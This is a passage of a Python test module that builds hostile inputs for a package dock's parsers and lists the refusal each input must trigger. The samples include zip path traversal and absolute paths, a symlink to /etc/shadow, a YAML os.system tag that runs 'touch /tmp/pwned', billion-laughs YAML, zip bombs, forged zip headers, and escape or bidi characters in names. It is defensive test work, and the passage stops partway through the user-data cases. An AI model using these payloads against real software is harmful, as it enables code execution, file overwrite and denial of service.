"""Hostile inputs for the dock's parsers, built at test time (no binary blobs in git).

Each :class:`Case` builds its input under a temp folder and names the engine entry point it goes through
(``open_learnware`` for packages, ``load_spec_file`` / ``SemanticSpec.parse_untrusted`` / ``load_table`` for the
rest) and the refusal it must end in: the error class, its ``code`` and fragments the message must contain (the
field or the cause). The runner (``test_hostile_inputs.py``) also checks that no host path leaks into the message
and that nothing is left in the work folder.
"""

from __future__ import annotations

import io
import json
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

from lwlib.errors import InvalidPackageError, SemanticSpecError, SpecFormatError, UnsafeArchiveError, UserDataError

__all__ = ["Case", "CASES", "base_files", "make_zip", "semantic_ref"]

Build = Callable[[Path], Any]


@dataclass(frozen=True)
class Case:
    """One hostile input.

    Attributes
    ----------
    category : str
        archive, manifest, requirements, stat_spec, semantic, user_data.
    entry : str
        ``open_learnware`` (build returns a zip path), ``load_spec_file`` (a JSON path), ``parse_untrusted`` (text
        or an object), ``query`` (a query dict), ``load_table`` (a data path, plus ``kwargs``).
    error : type
        The class the refusal must be an instance of.
    code : str
        ``err.code``.
    says : tuple of str
        Fragments the message must contain (case-insensitive): the field or the cause.
    """

    name: str
    category: str
    entry: str
    build: Build
    error: type[Exception]
    code: str
    says: tuple[str, ...] = ()
    kwargs: dict[str, Any] = field(default_factory=dict)


# ----------------------------------------------------------------------------------------------- base package
def semantic_ref(**over: Any) -> dict[str, Any]:
    """A valid reference semantic dict for a 2-feature, 2-class table model."""
    spec: dict[str, Any] = {
        "Data": {"Type": "Class", "Values": ["Table"]}, "Task": {"Type": "Class", "Values": ["Classification"]},
        "Library": {"Type": "Class", "Values": ["Scikit-learn"]}, "License": {"Type": "Class", "Values": ["MIT"]},
        "Scenario": {"Type": "Tag", "Values": ["Business"]}, "Name": {"Type": "String", "Values": "hostile base"},
        "Description": {"Type": "String", "Values": "a small valid learnware"},
        "Input": {"Dimension": 2, "Description": {"0": "a", "1": "b"}},
        "Output": {"Dimension": 2, "Description": {}},
    }
    spec.update(over)
    return spec


def rkme(**over: Any) -> dict[str, Any]:
    d: dict[str, Any] = {"z": [[0.0, 1.0], [1.0, 0.0], [0.5, 0.5]], "beta": [0.3, 0.3, 0.4], "gamma": 0.1,
                         "num_points": 50, "type": "RKMETableSpecification"}
    d.update(over)
    return d


MANIFEST = ("model:\n  class_name: Model\n  module_path: __init__.py\n  kwargs: {input_shape: [2]}\n"
            "stat_specifications:\n  - module_path: learnware.specification\n    class_name: RKMETableSpecification\n"
            "    file_name: stat_spec.json\n    kwargs: {}\n")


def base_files() -> dict[str, bytes]:
    """A minimal package that opens cleanly (the model is never imported by open_learnware)."""
    return {"learnware.yaml": MANIFEST.encode(), "__init__.py": b"class Model:\n    pass\n",
            "stat_spec.json": json.dumps(rkme()).encode(),
            "semantic_specification.json": json.dumps(semantic_ref()).encode()}


def make_zip(path: Path, members: list[tuple[str | zipfile.ZipInfo, bytes]],
             compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", compression) as zf:
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": the point of the duplicate cases
        for name, data in members:
            zf.writestr(name, data)
    return path


def package(path: Path, *, replace: dict[str, bytes | str] | None = None,
            extra: list[tuple[str | zipfile.ZipInfo, bytes]] = (), drop: tuple[str, ...] = (),
            compression: int = zipfile.ZIP_DEFLATED) -> Path:
    files = base_files()
    for k, v in (replace or {}).items():
        files[k] = v.encode() if isinstance(v, str) else v
    members: list[tuple[str | zipfile.ZipInfo, bytes]] = [(k, v) for k, v in files.items() if k not in drop]
    return make_zip(path, members + list(extra), compression)


def _info(name: str, mode: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info


def _patch_central(path: Path, member: bytes, offset: int, fmt: str, value: int) -> Path:
    """Overwrite one field of ``member``'s central-directory header (a forged size, a flag)."""
    raw = bytearray(path.read_bytes())
    pos = raw.find(b"PK\x01\x02")
    while pos >= 0:
        n = struct.unpack_from("<H", raw, pos + 28)[0]
        if bytes(raw[pos + 46:pos + 46 + n]) == member:
            struct.pack_into(fmt, raw, pos + offset, value)
            path.write_bytes(bytes(raw))
            return path
        pos = raw.find(b"PK\x01\x02", pos + 4)
    raise AssertionError(f"member {member!r} not in the central directory")


# ------------------------------------------------------------------------------------------------------ archive
def _pkg_with(name: str, data: bytes = b"x = 1\n", compression: int = zipfile.ZIP_DEFLATED) -> Build:
    return lambda d: package(d / "lw.zip", extra=[(name, data)], compression=compression)


def _bad_utf8_name(d: Path) -> Path:
    """A member whose name bytes are not UTF-8 although its header sets the UTF-8 flag (bit 11)."""
    hostile = b"\xff\xfe.py"
    placeholder = b"P" * len(hostile)
    z = package(d / "lw.zip", extra=[(placeholder.decode(), b"x")], compression=zipfile.ZIP_STORED)
    z.write_bytes(z.read_bytes().replace(placeholder, hostile))
    return _patch_central(z, hostile, 8, "<H", 0x0800)


def _symlink(d: Path) -> Path:
    return package(d / "lw.zip", extra=[(_info("link.py", stat.S_IFLNK | 0o777), b"/etc/shadow")])


def _device(d: Path) -> Path:
    return package(d / "lw.zip", extra=[(_info("tty", stat.S_IFCHR | 0o666), b"")])


def _encrypted(d: Path) -> Path:
    z = package(d / "lw.zip", extra=[("secret.py", b"x = 1\n")], compression=zipfile.ZIP_STORED)
    return _patch_central(z, b"secret.py", 8, "<H", 0x1)


def _declared_huge(d: Path) -> Path:
    z = package(d / "lw.zip", extra=[("weights.bin", b"0" * 100)], compression=zipfile.ZIP_STORED)
    return _patch_central(z, b"weights.bin", 24, "<I", 0x7FFF_FFF0)


def _zip64_lie(d: Path) -> Path:
    z = package(d / "lw.zip", extra=[("weights.bin", b"0" * 100)], compression=zipfile.ZIP_STORED)
    _patch_central(z, b"weights.bin", 20, "<I", 0xFFFF_FFFF)
    return _patch_central(z, b"weights.bin", 24, "<I", 0xFFFF_FFFF)


def _understated(d: Path) -> Path:
    z = package(d / "lw.zip", extra=[("weights.bin", b"\0" * 200_000)])
    return _patch_central(z, b"weights.bin", 24, "<I", 1_000)


def _many(d: Path) -> Path:
    return package(d / "lw.zip", extra=[(f"m/{i}.txt", b"") for i in range(2_100)], compression=zipfile.ZIP_STORED)


def _truncated(d: Path) -> Path:
    z = package(d / "lw.zip")
    z.write_bytes(z.read_bytes()[: z.stat().st_size // 2])
    return z


def _not_zip(d: Path) -> Path:
    p = d / "lw.zip"
    p.write_bytes(np.random.default_rng(0).bytes(4096))
    return p


def _empty_zip(d: Path) -> Path:
    return make_zip(d / "lw.zip", [])


ARCHIVE = [
    Case("long_component", "archive", "open_learnware", _pkg_with("a" * 300 + ".py"), UnsafeArchiveError,
         "archive_name_too_long", ("255 bytes",)),
    Case("long_path", "archive", "open_learnware", _pkg_with(("b" * 200 + "/") * 6 + "x.py"), UnsafeArchiveError,
         "archive_name_too_long", ("1024 bytes",)),
    Case("deep_dirs", "archive", "open_learnware", _pkg_with("d/" * 40 + "x.py"), UnsafeArchiveError,
         "archive_too_deep", ("deep",)),
    Case("traversal", "archive", "open_learnware", _pkg_with("../evil.py"), UnsafeArchiveError,
         "archive_path_traversal", ("../evil.py", "..")),
    Case("traversal_nested", "archive", "open_learnware", _pkg_with("a/../../evil.py"), UnsafeArchiveError,
         "archive_path_traversal", ("evil.py",)),
    Case("absolute", "archive", "open_learnware", _pkg_with("/etc/cron.d/evil"), UnsafeArchiveError,
         "archive_absolute_path", ("absolute",)),
    Case("drive_letter", "archive", "open_learnware", _pkg_with("C:/evil.py"), UnsafeArchiveError,
         "archive_absolute_path", ("drive letter",)),
    Case("nfkc_dotdot", "archive", "open_learnware", _pkg_with("\uff0e\uff0e/evil.py"), UnsafeArchiveError,
         "archive_path_traversal", ("normalisation",)),
    Case("nfkc_slash", "archive", "open_learnware", _pkg_with("a\uff0f..\uff0fevil.py"), UnsafeArchiveError,
         "archive_path_traversal", ("normalisation",)),
    Case("escape_in_name", "archive", "open_learnware", _pkg_with("a\x1b[31m.py"), UnsafeArchiveError,
         "archive_bad_path", ("control",)),
    Case("c1_csi_in_name", "archive", "open_learnware", _pkg_with("a\u009b2J.py"), UnsafeArchiveError,
         "archive_bad_path", ("control",)),
    Case("del_in_name", "archive", "open_learnware", _pkg_with("a\x7f.py"), UnsafeArchiveError,
         "archive_bad_path", ("control",)),
    Case("bidi_in_member_name", "archive", "open_learnware", _pkg_with("evil\u202eyp.txt"), UnsafeArchiveError,
         "archive_bad_path", ("bidi",)),
    Case("backslash", "archive", "open_learnware", _pkg_with("a\\..\\evil.py"), UnsafeArchiveError,
         "archive_bad_path", ("backslash",)),
    Case("bad_utf8_name", "archive", "open_learnware", _bad_utf8_name,
         InvalidPackageError, "not_a_zip", ("not a readable zip",)),
    Case("symlink", "archive", "open_learnware", _symlink, UnsafeArchiveError, "archive_symlink", ("link.py",)),
    Case("device", "archive", "open_learnware", _device, UnsafeArchiveError, "archive_special_file", ("tty",)),
    Case("bomb", "archive", "open_learnware", _pkg_with("data.bin", b"\0" * 30_000_000), UnsafeArchiveError,
         "archive_bomb", ("data.bin", "zip bomb")),
    Case("declared_huge", "archive", "open_learnware", _declared_huge, UnsafeArchiveError,
         "archive_member_too_big", ("weights.bin",)),
    Case("understated_size", "archive", "open_learnware", _understated, UnsafeArchiveError,
         "archive_corrupt_member", ("weights.bin", "CRC")),
    Case("zip64_size_lie", "archive", "open_learnware", _zip64_lie, UnsafeArchiveError, "archive_member_too_big",
         ("weights.bin", "4294967295")),
    Case("duplicate_exact", "archive", "open_learnware",
         lambda d: package(d / "lw.zip", extra=[("__init__.py", b"evil = 1\n")]), UnsafeArchiveError,
         "archive_duplicate_name", ("twice",)),
    Case("duplicate_case", "archive", "open_learnware", _pkg_with("LEARNWARE.yaml", b"model: {}\n"),
         UnsafeArchiveError, "archive_duplicate_name", ("twice",)),
    Case("duplicate_nfkc", "archive", "open_learnware", _pkg_with("\uff4cearnware.yaml", b"model: {}\n"),
         UnsafeArchiveError, "archive_duplicate_name", ("NFKC",)),
    Case("encrypted", "archive", "open_learnware", _encrypted, UnsafeArchiveError, "archive_encrypted",
         ("secret.py", "encrypted")),
    Case("file_dir_conflict", "archive", "open_learnware",
         lambda d: package(d / "lw.zip", extra=[("w", b"1"), ("w/x.py", b"2")]), UnsafeArchiveError,
         "archive_path_conflict", ("w/x.py",)),
    Case("many_members", "archive", "open_learnware", _many, UnsafeArchiveError, "archive_too_many_members",
         ("members",)),
    Case("non_zip", "archive", "open_learnware", _not_zip, InvalidPackageError, "not_a_zip",
         ("not a readable zip",)),
    Case("truncated", "archive", "open_learnware", _truncated, InvalidPackageError, "not_a_zip",
         ("not a readable zip",)),
    Case("empty_zip", "archive", "open_learnware", _empty_zip, InvalidPackageError, "empty_archive", ("empty",)),
]


# ----------------------------------------------------------------------------------------------------- manifest
def _manifest(text: str | bytes) -> Build:
    return lambda d: package(d / "lw.zip", replace={"learnware.yaml": text})


_LAUGHS = "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
    f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n" for i in range(8))
_KW = "model:\n  class_name: Model\n  kwargs:\n    {}\n"

MANIFEST_CASES = [
    Case("deep_flow_sequence", "manifest", "open_learnware", _manifest(_KW.format("x: " + "[" * 5000 + "]" * 5000)),
         InvalidPackageError, "manifest_too_deep", ("nested deeper",)),
    Case("deep_block_mapping", "manifest", "open_learnware",
         _manifest("model:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(40)) + "  " * 41 + "v: 1\n"),
         InvalidPackageError, "manifest_too_deep", ("nested deeper",)),
    Case("billion_laughs", "manifest", "open_learnware", _manifest(_LAUGHS), InvalidPackageError,
         "manifest_yaml_alias", ("aliases",)),
    Case("timestamp_kwarg", "manifest", "open_learnware", _manifest(_KW.format("when: 2001-12-14")),
         InvalidPackageError, "manifest_kwargs_bad_type", ("model.kwargs.when", "date")),
    Case("binary_kwarg", "manifest", "open_learnware", _manifest(_KW.format("blob: !!binary aGVsbG8=")),
         InvalidPackageError, "manifest_kwargs_bad_type", ("model.kwargs.blob", "bytes")),
    Case("set_kwarg", "manifest", "open_learnware", _manifest(_KW.format("s: !!set {a, b}")), InvalidPackageError,
         "manifest_kwargs_bad_type", ("model.kwargs.s",)),
    Case("nan_kwarg", "manifest", "open_learnware", _manifest(_KW.format("lr: .nan")), InvalidPackageError,
         "manifest_kwargs_bad_type", ("model.kwargs.lr", "finite")),
    Case("int_overflow_kwarg", "manifest", "open_learnware", _manifest(_KW.format("n: " + "9" * 40)),
         InvalidPackageError, "manifest_kwargs_bad_type", ("model.kwargs.n", "integer")),
    Case("int_key_kwarg", "manifest", "open_learnware", _manifest(_KW.format("1: 2")), InvalidPackageError,
         "manifest_kwargs_bad_type", ("model.kwargs", "key")),
    Case("python_apply_tag", "manifest", "open_learnware",
         _manifest("model: !!python/object/apply:os.system ['touch /tmp/pwned']\n"), InvalidPackageError,
         "manifest_unsafe_tag", ("tag",)),
    Case("python_name_tag", "manifest", "open_learnware",
         _manifest(_KW.format("f: !!python/name:os.system")), InvalidPackageError, "manifest_unsafe_tag", ("tag",)),
    Case("huge_scalar", "manifest", "open_learnware", _manifest(_KW.format("s: " + "x" * 5000)),
         InvalidPackageError, "manifest_too_long", ("5000 characters",)),
    Case("many_nodes", "manifest", "open_learnware", _manifest(_KW.format("v: [" + "1," * 6000 + "1]")),
         InvalidPackageError, "manifest_too_many_nodes", ("more than",)),
    Case("too_large", "manifest", "open_learnware", _manifest("# " + "x" * 70_000 + "\nmodel: {}\n"),
         InvalidPackageError, "manifest_too_large", ("limit",)),
    Case("not_mapping", "manifest", "open_learnware", _manifest("- model\n- spec\n"), InvalidPackageError,
         "manifest_not_mapping", ("mapping",)),
    Case("model_wrong_type", "manifest", "open_learnware", _manifest("model: 5\n"), InvalidPackageError,
         "manifest_bad_model", ("'model'",)),
    Case("class_name_dotted", "manifest", "open_learnware", _manifest("model: {class_name: os.system}\n"),
         InvalidPackageError, "manifest_bad_class_name", ("model.class_name",)),
    Case("module_path_escape", "manifest", "open_learnware", _manifest("model: {module_path: ../../x.py}\n"),
         InvalidPackageError, "manifest_bad_module_path", ("model.module_path",)),
    Case("spec_module_import", "manifest", "open_learnware",
         _manifest("stat_specifications:\n  - {module_path: os, class_name: RKMETableSpecification, "
                   "file_name: stat_spec.json}\n"), InvalidPackageError, "manifest_bad_spec_module", ("module_path",)),
    Case("spec_type_unknown", "manifest", "open_learnware",
         _manifest("stat_specifications:\n  - {class_name: system, file_name: stat_spec.json}\n"),
         InvalidPackageError, "manifest_unknown_spec_type", ("class_name",)),
    Case("not_utf8", "manifest", "open_learnware", _manifest(b"model: {class_name: \xff\xfe}\n"),
         InvalidPackageError, "manifest_encoding", ("UTF-8",)),
    Case("name_with_escape", "manifest", "open_learnware", _manifest("name: \"evil\\e[2Jname\"\nmodel: {}\n"),
         InvalidPackageError, "manifest_bad_name", ("'name'",)),
    Case("bad_yaml", "manifest", "open_learnware", _manifest("model: [unclosed\n"), InvalidPackageError,
         "manifest_bad_yaml", ("not valid YAML",)),
]


# ---------------------------------------------------------------------------------------------------- stat spec
def _stat_zip(content: dict[str, Any] | str | bytes, compression: int = zipfile.ZIP_DEFLATED) -> Build:
    """A package whose stat_spec.json is ``content`` (stored uncompressed when it is repetitive, so the archive's
    bomb guard does not answer first)."""
    def build(d: Path) -> Path:
        data = content if isinstance(content, (str, bytes)) else json.dumps(content)
        return package(d / "lw.zip", replace={"stat_spec.json": data}, compression=compression)
    return build


def _stat_file(writer: Callable[[Path], None]) -> Build:
    def build(d: Path) -> Path:
        p = d / "stat_spec.json"
        writer(p)
        return p
    return build


def _sparse(size: int) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        with p.open("wb") as fh:
            fh.truncate(size)
    return write


STAT = [
    Case("points_100k", "stat_spec", "open_learnware",
         _stat_zip(rkme(z=[[0.0, 0.0]] * 100_000, beta=[1e-5] * 100_000), zipfile.ZIP_STORED), SpecFormatError,
         "spec_too_large",
         ("100000 points", "stat_spec.json")),
    Case("too_wide", "stat_spec", "open_learnware", _stat_zip(rkme(z=[[0] * 200_000], beta=[1.0]), zipfile.ZIP_STORED),
         SpecFormatError, "spec_too_large", ("200000 features",)),
    Case("k_times_d", "stat_spec", "open_learnware",
         _stat_zip(rkme(z=[[0] * 700] * 4000, beta=[0] * 4000), zipfile.ZIP_STORED),
         SpecFormatError, "spec_too_large", ("K·d",)),
    Case("nan_literal", "stat_spec", "open_learnware", _stat_zip(json.dumps(rkme()).replace("0.5", "NaN")),
         SpecFormatError, "spec_nonfinite", ("NaN",)),
    Case("infinity_literal", "stat_spec", "open_learnware",
         _stat_zip(json.dumps(rkme()).replace("0.1,", "Infinity,")), SpecFormatError, "spec_nonfinite",
         ("Infinity",)),
    Case("float_overflow", "stat_spec", "open_learnware", _stat_zip(json.dumps(rkme()).replace("0.5", "1e999")),
         SpecFormatError, "spec_nonfinite", ("z",)),
    Case("huge_point", "stat_spec", "open_learnware", _stat_zip(rkme(z=[[1e200, 0.0]] * 3)), SpecFormatError,
         "spec_out_of_range", ("z", "magnitude")),
    Case("huge_weights", "stat_spec", "open_learnware", _stat_zip(rkme(beta=[1e200, -1e200, 1.0])),
         SpecFormatError, "spec_weights", ("beta",)),
    Case("zero_weights", "stat_spec", "open_learnware", _stat_zip(rkme(beta=[0, 0, 0])), SpecFormatError,
         "spec_weights", ("beta", "zeros")),
    Case("gamma_zero", "stat_spec", "open_learnware", _stat_zip(rkme(gamma=0)), SpecFormatError, "spec_gamma",
         ("gamma",)),
    Case("gamma_negative", "stat_spec", "open_learnware", _stat_zip(rkme(gamma=-0.1)), SpecFormatError,
         "spec_gamma", ("gamma",)),
    Case("gamma_string", "stat_spec", "open_learnware", _stat_zip(rkme(gamma="0.1")), SpecFormatError,
         "spec_gamma", ("gamma",)),
    Case("gamma_int_overflow", "stat_spec", "open_learnware", _stat_zip(rkme(gamma=10 ** 400)), SpecFormatError,
         "spec_gamma", ("gamma",)),
    Case("num_points_overflow", "stat_spec", "open_learnware", _stat_zip(rkme(num_points=10 ** 30)),
         SpecFormatError, "spec_num_points", ("num_points",)),
    Case("num_points_negative", "stat_spec", "open_learnware", _stat_zip(rkme(num_points=-5)), SpecFormatError,
         "spec_num_points", ("num_points",)),
    Case("num_points_float", "stat_spec", "open_learnware", _stat_zip(rkme(num_points=1.5)), SpecFormatError,
         "spec_num_points", ("num_points",)),
    Case("missing_beta", "stat_spec", "open_learnware",
         _stat_zip({k: v for k, v in rkme().items() if k != "beta"}), SpecFormatError, "spec_missing_key",
         ("beta",)),
    Case("wrong_type_string", "stat_spec", "open_learnware", _stat_zip(rkme(type="os.system")), SpecFormatError,
         "spec_unknown_type", ("os.system",)),
    Case("ragged_points", "stat_spec", "open_learnware", _stat_zip(rkme(z=[[0.0, 1.0], [1.0], [0.5, 0.5]])),
         SpecFormatError, "spec_shape", ("z",)),
    Case("wrong_dims_3d", "stat_spec", "open_learnware", _stat_zip(rkme(z=[[[0.0]], [[1.0]], [[2.0]]])),
         SpecFormatError, "spec_shape", ("z", "2-D")),
    Case("beta_length", "stat_spec", "open_learnware", _stat_zip(rkme(beta=[1.0])), SpecFormatError,
         "spec_shape", ("beta",)),
    Case("bool_points", "stat_spec", "open_learnware", _stat_zip(rkme(z=[[True, False]] * 3)), SpecFormatError,
         "spec_shape", ("z",)),
    Case("not_object", "stat_spec", "open_learnware", _stat_zip("[1, 2, 3]"), SpecFormatError, "spec_not_object",
         ("stat_spec.json", "list")),
    Case("deep_json", "stat_spec", "open_learnware", _stat_zip("[" * 100_000 + "]" * 100_000), SpecFormatError,
         "spec_bad_json", ("nested too deeply",)),
    Case("int_digits_bomb", "stat_spec", "open_learnware", _stat_zip('{"z": 1' + "0" * 5000 + "}"),
         SpecFormatError, "spec_bad_json", ("stat_spec.json",)),
    Case("list_bomb", "stat_spec", "load_spec_file",
         _stat_file(lambda p: p.write_bytes(b'{"z": [' + b"[]," * 3_000_000 + b"[]]}")), SpecFormatError,
         "spec_too_large", ("JSON values",)),
    Case("giant_file", "stat_spec", "load_spec_file", _stat_file(_sparse(65 * 1024 * 1024)), SpecFormatError,
         "spec_too_large", ("byte limit",)),
    Case("text_spec_language", "stat_spec", "load_spec_file",
         _stat_file(lambda p: p.write_text(json.dumps(rkme(type="RKMETextSpecification", language=["en"] * 100))
                                           )), SpecFormatError, "spec_language", ("language",)),
]


# ----------------------------------------------------------------------------------------------------- semantic
def _sem(**over: Any) -> Build:
    return lambda d: json.dumps(semantic_ref(**over))


def _name(value: str) -> dict[str, Any]:
    return {"Name": {"Type": "String", "Values": value}}


def _io(dim: Any, desc: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"Input": {"Dimension": dim, "Description": desc or {}}}


SEMANTIC = [
    Case("not_object_list", "semantic", "parse_untrusted", lambda d: '["Table"]', SemanticSpecError,
         "semantic_bad_type", ("JSON object", "list")),
    Case("not_object_string", "semantic", "parse_untrusted", lambda d: '"Table"', SemanticSpecError,
         "semantic_bad_type", ("JSON object",)),
    Case("deep_nesting_text", "semantic", "parse_untrusted", lambda d: "[" * 100_000 + "]" * 100_000,
         SemanticSpecError, "semantic_bad_json", ("nested too deeply",)),
    Case("deep_nesting_object", "semantic", "parse_untrusted",
         lambda d: {**semantic_ref(), "Extra": json.loads('{"a":' * 12 + "1" + "}" * 12)}, SemanticSpecError,
         "semantic_too_deep", ("nested deeper",)),
    Case("huge_name", "semantic", "parse_untrusted", _sem(**_name("n" * 10_000)), SemanticSpecError,
         "semantic_too_long", ("Name", "200")),
    Case("huge_description", "semantic", "parse_untrusted",
         _sem(Description={"Type": "String", "Values": "d" * 20_000}), SemanticSpecError, "semantic_too_long",
         ("Description",)),
    Case("huge_spec", "semantic", "parse_untrusted", lambda d: json.dumps(semantic_ref(**_io(
        1000, {str(i): "x" * 900 for i in range(400)}))), SemanticSpecError, "semantic_too_large", ("bytes",)),
    Case("rich_markup_in_name_is_data", "semantic", "display", _sem(**_name("[/bold][red]boom[/]")), type(None),
         "", ()),
    Case("escape_sequence_in_name", "semantic", "parse_untrusted", _sem(**_name("evil\x1b[2J\x1b]0;pwn\x07")),
         SemanticSpecError, "semantic_control_chars", ("Name", "control")),
    Case("nul_in_name", "semantic", "parse_untrusted", _sem(**_name("a\x00b")), SemanticSpecError,
         "semantic_control_chars", ("Name",)),
    Case("bidi_in_name", "semantic", "parse_untrusted", _sem(**_name("admin\u202etxt.exe")), SemanticSpecError,
         "semantic_control_chars", ("Name", "bidi")),
    Case("newline_in_name", "semantic", "parse_untrusted", _sem(**_name("a\nfake row")), SemanticSpecError,
         "semantic_control_chars", ("Name",)),
    Case("escape_in_io_description", "semantic", "parse_untrusted", _sem(**_io(2, {"0": "x\x1b[31m"})),
         SemanticSpecError, "semantic_control_chars", ("Description[0]",)),
    Case("long_io_description", "semantic", "parse_untrusted", _sem(**_io(2, {"0": "x" * 2_000})),
         SemanticSpecError, "semantic_too_long", ("Description[0]",)),
    Case("unknown_tag", "semantic", "parse_untrusted", _sem(Scenario={"Type": "Tag", "Values": ["Hacking"]}),
         SemanticSpecError, "semantic_bad_value", ("Scenario", "Hacking")),
    Case("too_many_tags", "semantic", "parse_untrusted", _sem(Scenario={"Type": "Tag", "Values": ["Business"] * 40}),
         SemanticSpecError, "semantic_cardinality", ("Scenario",)),
    Case("dimension_overflow", "semantic", "parse_untrusted", _sem(**_io(2 ** 40)), SemanticSpecError,
         "semantic_io_invalid", ("Input", "Dimension")),
    Case("output_dimension_int32", "semantic", "parse_untrusted",
         _sem(Output={"Dimension": 2 ** 31, "Description": {}}), SemanticSpecError, "semantic_io_invalid",
         ("Output",)),
    Case("dimension_negative", "semantic", "parse_untrusted", _sem(**_io(-3)), SemanticSpecError,
         "semantic_io_invalid", ("Input",)),
    Case("dimension_bool", "semantic", "parse_untrusted", _sem(**_io(True)), SemanticSpecError,
         "semantic_io_invalid", ("Input.Dimension",)),
    Case("nan_in_json", "semantic", "parse_untrusted", lambda d: json.dumps(semantic_ref(**_io(2))).replace(
        '"Dimension": 2', '"Dimension": NaN'), SemanticSpecError, "semantic_bad_json", ("NaN",)),
    Case("invalid_utf8", "semantic", "parse_untrusted", lambda d: b'{"Name": "\xff\xfe"}', SemanticSpecError,
         "semantic_bad_json", ("UTF-8",)),
    Case("non_string_key_object", "semantic", "parse_untrusted", lambda d: {**semantic_ref(), 7: "x"},
         SemanticSpecError, "semantic_bad_type", ("key",)),
    Case("python_object_value", "semantic", "parse_untrusted",
         lambda d: {**semantic_ref(), "Name": {"Type": "String", "Values": b"bytes"}}, SemanticSpecError,
         "semantic_bad_type", ("Name",)),
    Case("file_in_zip_with_escape", "semantic", "open_learnware", lambda d: package(d / "lw.zip", replace={
        "semantic_specification.json": json.dumps(semantic_ref(**_name("x\x1b[31m")))}), SemanticSpecError,
        "semantic_control_chars", ("semantic_specification.json", "Name")),
    Case("query_huge_name", "semantic", "query", lambda d: {"Name": {"Values": "q" * 10_000}}, SemanticSpecError,
         "semantic_too_long", ("Query Name",)),
    Case("query_deep", "semantic", "query", lambda d: json.loads('{"a":' * 20 + "1" + "}" * 20),
         SemanticSpecError, "semantic_too_deep", ("nested deeper",)),
]


# ---------------------------------------------------------------------------------------------------- user data
def _write(name: str, data: bytes | str) -> Build:
    def build(d: Path) -> Path:
        p = d / name
        p.write_bytes(data.encode() if isinstance(data, str) else data)
        return p
    return build


def _npy_bytes(arr: np.ndarray, *, allow_pickle: bool = False) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=allow_pickle)
    return buf.getvalue()


def _npy_header_only(shape: tuple[int, ...], descr: str = "<f8") -> bytes:
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": descr, "fortran_order": False, "shape": shape})
    return buf.getvalue() + b"\0" * 64


def _npz(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> Callable[[Path], bytes]:
    def data(_: Path) -> bytes:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression) as zf:
            for k, v in members.items():
                zf.writestr(k, v)
        return buf.getvalue()
    return data


def _npz_file(name: str, members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> Build:
    return lambda d: _write(name, _npz(members, compression)(d))(d)


def _npz_bomb(d: Path, n_bytes: int = 640 * 1024 * 1024) -> Path:
    """A real bomb: 640 MiB of float64 zeros deflated to ~0.6 MB (over the default 512 MiB limit)."""
    p = d / "bomb.npz"
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
                                                  "shape": (n_bytes // 8 // 64, 64)})
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf, \
            zf.open("X.npy", "w", force_zip64=True) as fh:
        fh.write(header.getvalue())
        chunk = bytes(1 << 24)
        for _ in range(n_bytes // len(chunk)):
            fh.write(chunk)
    return p


def _npz_forged(d: Path) -> Path:
    """Central directory claims 2 GiB for a member whose deflated data is a few bytes (impossible ratio)."""
    p = _npz_file("forged.npz", {"X.npy": _npy_bytes(np.zeros((2, 2)))}, zipfile.ZIP_DEFLATED)(d)
    return _patch_central(p, b"X.npy", 24, "<I", 0x7FFF_0000)


_OK_X = np.arange(12.0).reshape(4, 3)

USER = [
    Case("nan_csv", "user_data", "load_table", _write("nan.csv", "a,b\n1,2\nnan,3\n"), UserDataError,
         "user_data_nonfinite", ("NaN", "nan.csv")),
    Case("inf_npy", "user_data", "load_table", _write("inf.npy", _npy_bytes(np.array([[1.0, np.inf]]))),
         UserDataError, "user_data_nonfinite", ("infinite", "inf.npy")),
    Case("wrong_width", "user_data", "load_table", _write("x.npy", _npy_bytes(_OK_X)), UserDataError,
         "user_data_width", ("3 columns", "64"), {"n_features": 64}),
    Case("huge_csv", "user_data", "load_table", _write("big.csv", "1.0,2.0\n" * 4096), UserDataError,
         "user_data_too_large", ("big.csv", "limit"), {"max_bytes": 64 * 1024}),
    Case("non_numeric_csv", "user_data", "load_table", _write("s.csv", "1,2\nx,y\n"), UserDataError,
         "user_data_parse", ("'x'",)),
    Case("ragged_csv", "user_data", "load_table", _write("r.csv", "1,2,3\n4,5\n"), UserDataError,
         "user_data_parse", ("columns",)),
    Case("empty_cell_csv", "user_data", "load_table", _write("e.csv", "1,,3\n4,5,6\n"), UserDataError,
         "user_data_parse", ("e.csv",)),
    Case("empty_file", "user_data", "load_table", _write("empty.csv", ""), UserDataError, "user_data_empty",
         ("empty",)),
    Case("header_only_csv", "user_data", "load_table", _write("h.csv", "a,b,c\n"), UserDataError,
         "user_data_empty", ("no data",)),
    Case("binary_junk_csv", "user_data", "load_table", _write("junk.csv", bytes(range(256)) * 8), UserDataError,
         "user_data_format", ("binary",)),
    Case("latin1_csv", "user_data", "load_table", _write("l.csv", b"1,2\n\xe9,3\n"), UserDataError,
         "user_data_format", ("UTF-8",)),
    Case("npy_header_8tb", "user_data", "load_table", _write("lie.npy", _npy_header_only((1_000_000, 1_000_000))),
         UserDataError, "user_data_too_large", ("(1000000, 1000000)", "limit")),
    Case("npy_truncated", "user_data", "load_table", _write("t.npy", _npy_bytes(_OK_X)[:-16]), UserDataError,
         "user_data_corrupt", ("truncated",)),
